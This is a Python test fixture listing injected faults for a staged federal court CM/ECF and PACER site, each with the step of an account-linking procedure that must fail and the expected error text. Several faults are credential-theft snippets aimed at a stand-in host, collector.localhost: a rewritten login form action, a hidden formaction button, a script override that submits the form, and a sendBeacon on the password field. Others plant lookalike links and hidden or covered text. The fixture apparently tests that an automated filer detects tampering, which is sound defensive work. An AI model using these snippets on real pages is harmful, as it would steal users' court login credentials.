"""Changes of the staged court by which a step of the link procedure must fail, and what it says."""

from dataclasses import dataclass

from stage.faults.model import Fault, Requests
from tests.helpers.faulty_stage import (
    CMECF_LOGIN,
    CMECF_PAGES,
    FRONT_PAGE,
    LINK_CONFIRMED,
    LINK_FORM,
    LINK_FORM_SENT,
    PACER_LOGIN,
    WEBSITE_HOME,
)


@dataclass(frozen=True)
class Change:
    """A change of the court, the step that must fail, and a part of its message."""

    fault: Fault
    step: str
    message: str


def replace_on_page(requests: Requests, text: str, becomes: str) -> Fault:
    """Return a fault that replaces a text on a page."""
    return Fault(on=requests, replace=(text, becomes))


def when_read(script: str) -> str:
    """Return a script that runs another one when the rows of the page are read for the first time."""
    return (
        "<script>const ask = document.querySelectorAll.bind(document); let isRead = false;"
        "document.querySelectorAll = css => { if (!isRead && css.includes('tr:not(:has(tr))')) {"
        f"isRead = true; {script}; }} return ask(css); }};</script>"
    )


LOG_OUT_ENTRY = (
    '<li class="yuimenubaritem" data-name="Log Out">'
    '<a class="yuimenubaritemlabel" href="/cgi-bin/login.pl?logout">Log Out</a></li>'
)
LINK_FORM_BEGINS = "<p>This utility links"
ECF_ROW = "<tr><td>CM/ECF</td>"
PACER_NAME = "<tr><td>PACER</td><td"
NAMES_BEGIN = '<table class="accounts">'
COVERING_NEIGHBOR = '<div style="position: relative; outline: 40px solid #fff"></div>'
SUBMIT = '<input name="button1" value="Submit" type="button" onclick="ProcessForm(this.form)">'
LOGIN_IS_SENT = "PrimeFaces.ab(this, 'loginForm:fbtnLogin'); return false;"
LOGIN_ADDRESS = "{ecf}/cgi-bin/login.pl"

CHANGES = {
    "a menu entry is renamed": Change(
        replace_on_page(CMECF_PAGES, ">Reports<", ">Records<"),
        "3",
        "cmecf_home menu: documented [Query, Reports, Utilities, Help, Log Out]; "
        "seen [Query, Records, Utilities, Help, Log Out] (not seen: [Reports]; not documented: [Records])",
    ),
    "a field is dropped": Change(
        replace_on_page(LINK_FORM, 'type="password"', 'type="hidden"'),
        "4",
        "link_account fields: documented [CM/ECF login:, CM/ECF password:]; "
        "seen [CM/ECF login:] (not seen: [CM/ECF password:])",
    ),
    "a name on the confirmation is swapped": Change(
        Fault(rule="confirmation_shows_ecf_name"), "5", 'link_confirmation rows shows CM/ECF as "'
    ),
    "the Criminal entry is lost": Change(
        replace_on_page(CMECF_PAGES, "Crimi<u>n</u>al", "Cri<u>m</u>es"),
        "6",
        "(not seen: [Criminal]; not documented: [Crimes])",
    ),
    "the notice is changed": Change(
        replace_on_page(
            PACER_LOGIN, "All activities and access attempts are logged.", "Some activities are logged."
        ),
        "restricted",
        "prosecution under Title 18 of the U.S. Code. Some activities are logged.",
    ),
    "a wrong name is above the right one": Change(
        replace_on_page(LINK_FORM_SENT, ECF_ROW, f"<tr><td>CM/ECF</td><td>Somebody Else</td></tr>{ECF_ROW}"),
        "5",
        'shows CM/ECF as "Somebody Else and again ',
    ),
    "a name is in a third cell": Change(
        replace_on_page(LINK_FORM_SENT, ECF_ROW, f"<tr><td>CM/ECF</td><td>No.</td><td>7</td></tr>{ECF_ROW}"),
        "5",
        'shows CM/ECF as "No. | 7 and again ',
    ),
    "a name cannot be seen": Change(
        replace_on_page(LINK_FORM_SENT, PACER_NAME, f'{PACER_NAME} style="display: none"'),
        "5",
        'link_confirmation rows shows PACER as ""',
    ),
    "another account is named outside the rows": Change(
        replace_on_page(
            LINK_FORM_SENT,
            "link these accounts?</p>",
            "link these accounts?</p><p>PACER account of Smith and Partners LLP</p>",
        ),
        "5",
        "not documented: [PACER account of Smith and Partners LLP]",
    ),
    "a link cannot be seen": Change(
        replace_on_page(
            PACER_LOGIN,
            '<a href="/pscof/forgotUserName.jsf">',
            '<a style="display: none" href="/pscof/forgotUserName.jsf">',
        ),
        "2",
        "not seen: [Forgot User Name?]",
    ),
    "a menu entry is another kind of link": Change(
        replace_on_page(
            CMECF_PAGES, LOG_OUT_ENTRY, f'{LOG_OUT_ENTRY}<li><a href="/" style="color: #fff">Civil</a></li>'
        ),
        "one-time",
        "cmecf_home standing: documented [may not file]; seen [unknown]",
    ),
    "the question is worded differently": Change(
        replace_on_page(LINK_FORM_SENT, "Do you want to link", "Do you wish to link"),
        "5",
        "not documented: [Do you wish to link these accounts?]",
    ),
    "the court alerts its users": Change(
        replace_on_page(
            LINK_FORM, LINK_FORM_BEGINS, f"<script>alert('Closed tonight')</script>{LINK_FORM_BEGINS}"
        ),
        "4",
        'a dialog that is not documented: "Closed tonight"',
    ),
    "what is typed at the login would be sent elsewhere": Change(
        replace_on_page(
            PACER_LOGIN,
            '<form id="loginForm" name="loginForm" method="post"',
            '<form id="loginForm" name="loginForm" method="post" action="http://collector.localhost:9/take"',
        ),
        "restricted",
        "has a form that is sent to http://collector.localhost:9/take, which is not the court's",
    ),
    "a button of the link form would send it elsewhere": Change(
        replace_on_page(
            LINK_FORM,
            '<input name="reset"',
            '<input type="submit" value="" hidden formaction="//collector.localhost:9/take">'
            '<input name="reset"',
        ),
        "4",
        "link_account submit: nothing was typed; the court's file says http://ecf.ctd.localhost:",
    ),
    "a script of the login sends what is typed elsewhere": Change(
        replace_on_page(
            PACER_LOGIN,
            "</body>",
            "<script>PrimeFaces.ab = form => { form.action = 'http://collector.localhost:9/take';"
            " form.submit(); }</script></body>",
        ),
        "2",
        "pacer_login.log_in: after a secret was typed, the page would have sent what was typed to"
        " http://collector.localhost:9, which is not the court's; the browser blocked it",
    ),
    "a script of the link form copies what is typed elsewhere": Change(
        replace_on_page(
            LINK_FORM,
            'type="password"',
            'type="password" oninput="navigator.sendBeacon(\'http://collector.localhost:9/\', this.value)"',
        ),
        "4",
        "link_account.submit: after a secret was typed, the page would have sent what was typed to"
        " http://collector.localhost:9, which is not the court's; the browser blocked it",
    ),
    "the link form would send the password in an address": Change(
        replace_on_page(LINK_FORM, 'method="POST"', 'method="GET"'),
        "4",
        "link_account submit: nothing was typed; the form with the password sends it in the address of a"
        " request (method GET)",
    ),
    "the link form would send the password as plain text": Change(
        replace_on_page(LINK_FORM, "multipart/form-data", "text/plain"),
        "4",
        "link_account submit: nothing was typed; the form with the password sends it as text/plain",
    ),
    "a field of the link form is too short": Change(
        replace_on_page(LINK_FORM, 'maxlength="50"', 'maxlength="4"'),
        "4",
        'link_account.submit was not done, and nothing was sent: the field "CM/ECF login:" takes at most 4',
    ),
    "two links with the same words lead to different places": Change(
        replace_on_page(
            WEBSITE_HOME,
            "<p>Attorneys file",
            '<a href="http://elsewhere.localhost:9/">E-Filing (CM/ECF)</a><p>Attorneys file',
        ),
        "1",
        'links with the same words lead to different places, so none was clicked: "E-Filing (CM/ECF) »" -> http://',
    ),
    "the link leads to another host": Change(
        replace_on_page(WEBSITE_HOME, LOGIN_ADDRESS, "http://elsewhere.localhost:9/"),
        "1",
        '"E-Filing (CM/ECF) »" leads to http://elsewhere.localhost:9/; the court\'s file says that CM/ECF is',
    ),
    "the link leads to the training database": Change(
        replace_on_page(WEBSITE_HOME, LOGIN_ADDRESS, "http://ecf-train.ctd.localhost:9/"),
        "1",
        "leads to http://ecf-train.ctd.localhost:9/, a training system; the court's file says",
    ),
    "the front page has no link": Change(
        Fault(
            on=FRONT_PAGE,
            remove='<a href="/cgi-bin/login.pl">District of Connecticut - Document Filing System</a>',
        ),
        "one-login",
        "click_logo should lead to cmecf_front_page, known by a link to the login; shown: an unknown screen",
    ),
    "the menu bar has no way to log out": Change(
        Fault(on=CMECF_LOGIN, remove=LOG_OUT_ENTRY),
        "2",
        "log_in should lead to cmecf_home, known by a menu bar with a link that logs out; shown: an unknown",
    ),
    "the court opens another window": Change(
        replace_on_page(
            LINK_FORM,
            LINK_FORM_BEGINS,
            f"<script>window.open('/cgi-bin/CourtInfo.pl?location=main')</script>{LINK_FORM_BEGINS}",
        ),
        "4",
        "link_account: the court opened another tab or window, which is not documented: http://ecf.ctd.localhost:",
    ),
    "the password would be shown as it is typed": Change(
        replace_on_page(PACER_LOGIN, 'type="password"', 'type="text"'),
        "2",
        'pacer_login kinds shows Password * as "text"; documented: "password"',
    ),
    "a button does nothing": Change(
        replace_on_page(LINK_FORM, 'onclick="ProcessForm(this.form)"', ""),
        "4",
        "link_account.submit: the click did nothing: within 0.5 s the browser sent nothing to the court",
    ),
    "a button asks something first": Change(
        replace_on_page(LINK_FORM, 'onclick="ProcessForm', "onclick=\"if (confirm('Sure?')) ProcessForm"),
        "4",
        'within 0.5 s the browser sent nothing to the court; the browser showed a dialog: "Sure?"',
    ),
    "the login's button does nothing": Change(
        replace_on_page(PACER_LOGIN, LOGIN_IS_SENT, "return false;"),
        "2",
        "pacer_login.log_in: the click did nothing: within 0.5 s the browser sent nothing to the court",
    ),
    "a button is missing": Change(
        Fault(on=LINK_FORM, remove=SUBMIT),
        "4",
        "link_account buttons: documented [Submit, Clear]; seen [Clear] (not seen: [Submit])",
    ),
    "a name has the color of its background": Change(
        replace_on_page(LINK_FORM_SENT, PACER_NAME, f'{PACER_NAME} style="color: #fefefe"'),
        "5",
        'link_confirmation rows shows PACER as ""',
    ),
    "a neighbor's outline covers the names": Change(
        replace_on_page(LINK_FORM_SENT, NAMES_BEGIN, f"{COVERING_NEIGHBOR}{NAMES_BEGIN}"),
        "5",
        'see: "Do you want to link these accounts" (not drawn), "CM/ECF" (not drawn), "',
    ),
    "labels are exchanged, and what they are for is kept": Change(
        replace_on_page(PACER_LOGIN, ">Client Code</label>", ">Password *</label>"),
        "2",
        "fields: documented [Username *, Password *, Client Code]; seen [Username *, Password *, Password *]",
    ),
    "a link of the login leads to another host": Change(
        replace_on_page(PACER_LOGIN, '"/pscof/forgotPassword.jsf"', '"http://elsewhere.localhost:9/"'),
        "2",
        "Forgot Your Password? (leads to http://elsewhere.localhost:9/)",
    ),
    "a menu entry leads elsewhere": Change(
        replace_on_page(CMECF_LOGIN, "/cgi-bin/DisplayMenu.pl?Reports", "/cgi-bin/help.pl"),
        "3",
        "Reports (leads to http://ecf.ctd.localhost:",
    ),
    "the link entry is renamed": Change(
        replace_on_page(CMECF_PAGES, ">Link a CM/ECF account to my", ">Link a CM/ECF account to your"),
        "3",
        "documented [not linked]; seen [unknown]",
    ),
    "a sentence takes the success back": Change(
        replace_on_page(
            LINK_CONFIRMED,
            "ready for filings.</p>",
            "ready for filings.</p><p>Linking is not accepted now.</p>",
        ),
        "6",
        "not documented: [Linking is not accepted now.]",
    ),
    "a page leaves by itself": Change(
        replace_on_page(
            LINK_FORM, LINK_FORM_BEGINS, f'<meta http-equiv="refresh" content="5;url=/">{LINK_FORM_BEGINS}'
        ),
        "4",
        "link_account: the page leaves by itself, which is not documented: after 5;url=/",
    ),
    "the confirmation has a box that is ticked already": Change(
        replace_on_page(LINK_FORM_SENT, "</form>", '<input type="checkbox" name="pay" checked> </form>'),
        "permanent",
        "link_confirmation has a field to fill in (checkbox), which is not documented",
    ),
    "the confirmation has a second form": Change(
        replace_on_page(
            LINK_FORM_SENT,
            "</form>",
            '</form><form method="post" action="/cgi-bin/LinkAccountConfirm.pl?9">'
            '<input type="hidden" name="proposal" value="other"></form>',
        ),
        "permanent",
        "link_confirmation has two forms that are sent to /cgi-bin/LinkAccountConfirm.pl, which is not",
    ),
    "the confirmation has a picture": Change(
        replace_on_page(
            LINK_FORM_SENT,
            "</form>",
            '</form><img width="200" height="20" src="data:," alt="You may undo this.">',
        ),
        "permanent",
        "link_confirmation has an element <img> that can show words, which is not documented",
    ),
    "the confirmation has words in a shadow tree": Change(
        replace_on_page(
            LINK_FORM_SENT,
            "</form>",
            "</form><p><template shadowrootmode='open'>You may undo this later.</template></p>",
        ),
        "permanent",
        "link_confirmation has an element <p> that can show words, which is not documented",
    ),
    "the login is that of another court": Change(
        replace_on_page(CMECF_LOGIN, "appurl=http%3A%2F%2Fecf.ctd", "appurl=http%3A%2F%2Fecf.other"),
        "1",
        "leads to pacer_login of another court, and nothing was typed: it goes on to http://ecf.other.localhost:",
    ),
}

QUICK = {
    "a menu entry is renamed",
    "a name on the confirmation is swapped",
    "a name has the color of its background",
    "a neighbor's outline covers the names",
    "a button does nothing",
    "the login is that of another court",
    "another account is named outside the rows",
    "the court alerts its users",
    "what is typed at the login would be sent elsewhere",
    "a button of the link form would send it elsewhere",
    "a script of the login sends what is typed elsewhere",
    "a script of the link form copies what is typed elsewhere",
    "the link form would send the password in an address",
    "the confirmation has a box that is ticked already",
    "two links with the same words lead to different places",
    "the link leads to another host",
    "the court opens another window",
}
"""The changes that are tried whenever the quick tests run."""
